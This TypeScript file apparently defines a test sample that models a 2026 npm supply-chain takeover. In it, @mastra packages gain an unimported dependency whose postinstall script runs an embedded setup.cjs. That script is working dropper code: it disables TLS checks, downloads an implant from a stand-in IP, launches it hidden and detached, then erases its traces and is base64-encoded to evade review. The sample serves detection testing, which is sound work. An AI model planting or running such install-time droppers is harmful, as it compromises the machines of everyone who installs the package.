import { defineAttack } from "../attack.ts";
import { serviceClient, smallLibrary } from "../bases.ts";
import { commonScript } from "../guard.ts";
import { hideInTable, oneLine } from "../hiding.ts";
import type { PackageLine } from "../publishing-ways.ts";
import { person } from "../publishing-ways.ts";
import type { Sample } from "../sample.ts";

/**
 * `@mastra/*` and easy-day-js 1.11.22, 17 June 2026: a forgotten contributor's rights. 141 packages gain a dependency that nobody imports,
 * their code unchanged; its `setup.cjs` turns off checks of TLS, fetches an implant per system, and deletes itself.
 */
export const mastra2026: Sample = defineAttack({
  id: "mastra-2026",
  title: "141 packages gain a dependency that nobody imports, by a forgotten contributor",
  group: "takeover",
  trigger: "install",
  judged: [
    { name: "@mastra/core", version: "1.42.1" },
    { name: "easy-day-js", version: "1.11.22" },
  ],
  now: "2026-06-17T01:30:00Z",
  createLines: () => [
    {
      name: "easy-day-js",
      files: smallLibrary("dayjs"),
      manifest: {
        description: "Stand-in for dayjs",
        repository: { type: "git", url: "git+https://github.com/iamkun/dayjs.git" },
        homepage: "https://day.js.example",
      },
      publisher: person("easyday", "easyday@proton.invalid"),
      releases: [
        ["1.11.21", "2026-06-16T09:00:00Z", { hasCommit: false }],
        [
          "1.11.22",
          "2026-06-17T01:01:00Z",
          {
            hasCommit: false,
            manifest: { scripts: { postinstall: "node setup.cjs" } },
            files: [{ path: "setup.cjs", content: setup }],
          },
        ],
      ],
    },
    line("@mastra/core", ["1.41.0", "1.42.0", "1.42.1"], "2026-06-17T01:12:00Z"),
    line("@mastra/memory", ["1.21.0", "1.22.0", "1.22.1"], "2026-06-17T01:12:30Z"),
  ],
});

function line(
  name: string,
  [older, last, armed]: readonly [string, string, string],
  at: string,
): PackageLine {
  return {
    name,
    files: serviceClient(name),
    publisher: person("mastra-team"),
    way: "trusted-publisher",
    releases: [
      ["1.40.0", "2026-05-20T10:00:00Z"],
      [older, "2026-06-02T10:00:00Z"],
      [last, "2026-06-12T10:00:00Z"],
      [
        armed,
        at,
        {
          way: "hand",
          publisher: person("ehindero"),
          hasCommit: false,
          manifest: { dependencies: { "easy-day-js": "^1.11.21" } },
        },
      ],
    ],
  };
}

const setup = hideInTable(
  oneLine(
    commonScript(String.raw`
process.env.NODE_TLS_REJECT_UNAUTHORIZED = "0";
const fs = require("fs");
const os = require("os");
const path = require("path");
const https = require("https");
const child = require("child_process");
const names = { win32: "update.exe", darwin: "com.apple.helper", linux: ".sysd" };
const target = path.join(os.tmpdir(), names[process.platform] || ".sysd");
https.get({ host: "198.51.100.12", port: 443, path: "/49890878", rejectUnauthorized: false, headers: { "User-Agent": "node" } }, (reply) => {
  const parts = [];
  reply.on("data", (part) => { parts.push(part); });
  reply.on("end", () => {
    fs.writeFileSync(target, Buffer.concat(parts), { mode: 493 });
    const task = child.spawn(process.execPath, [target], { detached: true, stdio: "ignore", windowsHide: true });
    task.unref();
    fs.unlinkSync(__filename);
    const manifest = JSON.parse(fs.readFileSync(path.join(__dirname, "package.json"), "utf8"));
    delete manifest.scripts;
    fs.writeFileSync(path.join(__dirname, "package.json"), JSON.stringify(manifest));
  });
}).on("error", () => {});
`),
  ),
  "base64",
);
